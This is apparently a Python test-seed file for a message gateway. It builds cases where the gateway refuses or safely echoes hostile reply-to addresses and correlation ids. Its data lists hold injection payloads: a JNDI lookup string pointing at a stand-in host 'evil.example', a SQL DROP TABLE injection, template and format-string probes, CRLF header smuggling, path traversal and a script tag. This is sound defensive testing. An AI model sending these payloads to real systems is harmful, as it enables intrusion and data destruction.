"""B10: reply addresses that would let the gateway write anywhere, and correlation ids."""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import replace
from typing import Any

from tests.corpus.seeds import MARK, Refused, Seed, Sent, call, forbidden, malformed, text
from tests.support.poison.properties import REPLY_ADDRESSES

_GOOD = text(call())
_FORBIDDEN: list[Any] = [
    *REPLY_ADDRESSES,
    *("lark.dlx", "lark.calls", "lark.reenter", "lark.retry.1s", "lark.calls.default.bulk"),
    *(
        "lark.calls.default.retry",
        "amq.direct",
        "amq.topic",
        "amq.fanout",
        "amq.headers",
        "amq.match",
    ),
    *(
        "amq.rabbitmq.log",
        "amq.rabbitmq.reply-to-",
        "AMQ.GEN-x",
        "amq.gen_x",
        "lark_reply.x",
        "Amq_x",
    ),
    *("lark.reply*", "#", "*", "\0", "\0lark.reply.x", "\r\nlark.reply.x", "../lark.reply.x"),
    *(
        "{{7*7}}",
        "${jndi:ldap://evil.example}",
        "'; DROP TABLE calls--",
        "字",
        b"\xff\xfe",
        "\ufefflark",
    ),
]
_NOBODYS = [
    *(f"lark.reply.{MARK}", f"amq.gen-{MARK}", f"amq_{MARK}", f"lark.reply.{MARK}\r\nX: y"),
    *(f"lark.reply.{MARK}\0", f"lark.reply.字{MARK}", f"amq.rabbitmq.reply-to.{MARK}"),
]
"""Allowed, and no queue of this name exists."""
_CORRELATED: list[Any] = [
    *(f"{MARK} ", f" {MARK}", f"{MARK}\r\nX: y", f"{MARK}\n", f"{MARK}\0", f"{MARK}\x1b[31m"),
    *(
        f"{MARK}{{{{7*7}}}}",
        f"{MARK}${{jndi:ldap://evil.example}}",
        f"{MARK}%s%n{{0}}",
        f"{MARK}'--",
    ),
    *(f"{MARK}字é😀", f"{MARK}\u202e\u200b", f'{MARK}"\\', f"{MARK}<script>", f"{MARK}../../x"),
    *(MARK + "x" * 240, f"{MARK}".encode() + b"\xff\xfe", b"\xed\xa0\x80" + MARK.encode()),
    *(f"{MARK},{MARK}", f"t-{MARK}" + "0" * 30, f"lark.dead {MARK}", f"#{MARK}*"),
]


def seeds() -> Iterator[Seed]:
    """Where nothing is ever sent, where nobody is, and what is echoed as it came."""
    for address in _FORBIDDEN:
        verdict = replace(forbidden("reply_to"), answered=False)
        given = {"reply_to": address}
        yield Seed(f"reply_to {str(address)[:24]!r}", verdict, _GOOD, given)
    for address in _NOBODYS:
        verdict = Sent(answered=False)
        yield Seed(f"nobody's {address!r}", verdict, _GOOD, {"reply_to": address})
    for place, value in enumerate(_CORRELATED):
        name = f"correlation_id {place} {str(value)[:24]!r}"
        yield Seed(name, Sent(), _GOOD, {"correlation_id": value})
        yield Seed(f"refused, {name}", malformed(), b"{", {"correlation_id": value})
    yield Seed("no correlation_id", Sent(), _GOOD, {"correlation_id": None})
    yield Seed("empty correlation_id", Sent(), _GOOD, {"correlation_id": ""})
    for address in (None, ""):
        given = {"reply_to": address}
        yield Seed(f"no reply_to {address!r}", Sent(answered=False), _GOOD, given)
        refused = Refused(("method",), answered=False)
        yield Seed(f"refused, no reply_to {address!r}", refused, text(call(method="get")), given)
        buried = replace(malformed("JSON"), answered=False)
        yield Seed(f"no JSON, no reply_to {address!r}", buried, b"{", given)
